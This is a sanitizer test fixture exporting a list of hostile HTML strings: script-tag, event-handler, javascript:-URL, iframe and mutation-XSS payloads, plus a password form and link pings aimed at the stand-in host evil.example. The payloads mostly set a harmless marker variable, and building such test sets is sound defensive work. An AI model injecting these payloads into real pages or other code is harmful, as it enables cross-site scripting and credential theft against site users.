// Malicious html. Scripts that run set window.__xss; resources are fetched from evil.example.
const RUN = 'window.__xss=1'
const EVIL = 'https://evil.example'

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}`,
  `<<script>${RUN}//<</script>`,
  `"><script>${RUN}</script>`,
  `</p></div></main><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `\u0000<script\u0000>${RUN}</script>`,
]

const handlers = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x OnErRoR="${RUN}">`,
  `<img """><img src=x onerror="${RUN}">">`,
  `<img src="${EVIL}/pixel.png">`,
  `<img srcset="${EVIL}/pixel.png 1x">`,
  `<p onclick="${RUN}">press</p>`,
  `<p onpointerenter="${RUN}" style="position:fixed;inset:0">over</p>`,
  `<details open ontoggle="${RUN}"><summary>x</summary>y</details>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<video src="${EVIL}/x.mp4" onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<b style="background:url(${EVIL}/x.png)">x</b>`,
  `<strong onanimationstart="${RUN}" style="animation:spin 1s">x</strong>`,
  `<abbr title='" onmouseover="${RUN}" x="'>x</abbr>`,
  `<dfn title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">term</dfn>`,
  `<dfn title='"><img src=x onerror=${RUN}>'>term</dfn>`,
]

const links = [
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="JaVaScRiPt:${RUN}">link</a>`,
  `<a href=" javascript:${RUN}">link</a>`,
  `<a href="java\nscript:${RUN}">link</a>`,
  `<a href="java\tscript:${RUN}">link</a>`,
  `<a href="&#106;avascript:${RUN}">link</a>`,
  `<a href="&#x6A&#x61&#x76&#x61script&colon;${RUN}">link</a>`,
  `<a href="\u0001javascript:${RUN}">link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<a href="vbscript:${RUN}">link</a>`,
  `<a href="blob:${EVIL}/x">link</a>`,
  `<a href="//evil.example/">link</a>`,
  `<a href="/\\evil.example/">link</a>`,
  `<a href="/\t/evil.example/">link</a>`,
  `<a href="\\\\evil.example">link</a>`,
  `<a href="https://pont.example" target="_blank" ping="${EVIL}/ping">link</a>`,
  `<a href="#" onclick="${RUN}">link</a>`,
  `<a href="/privacy" download="x.exe" style="color:red" id="root" name="cookie">link</a>`,
  `<a xlink:href="javascript:${RUN}">link</a>`,
]

const strangers = [
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<style>@import url(${EVIL}/x.css);</style>`,
  `<style>body{display:none}</style>`,
  `<form action="${EVIL}"><input name="password"><button>Log in</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex action="javascript:${RUN}">`,
  `<frameset onload="${RUN}"></frameset>`,
  `<template><script>${RUN}</script></template>`,
  `<slot onslotchange="${RUN}"></slot>`,
  `<custom-element onclick="${RUN}">x</custom-element>`,
]

// html that parsers and serialisers treat differently (mutation XSS)
const mutants = [
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math><mi xlink:href="data:x,<script>${RUN}</script>"></mi></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<p title="<!--"><img src=x onerror="${RUN}"> --></p>`,
  `<a href="x:&#x3c;img src=x onerror=${RUN}&#x3e;">link</a>`,
  `&lt;img src=x onerror="${RUN}"&gt;`,
  `<b>${'<i>'.repeat(300)}deep`,
  `${'<p>'.repeat(50)}<img src=x onerror="${RUN}">`,
]

/** Pieces of html that try to run scripts, to fetch resources or to redirect. */
export const HOSTILE_HTML: readonly string[] = [...scripts, ...handlers, ...links, ...strangers, ...mutants]
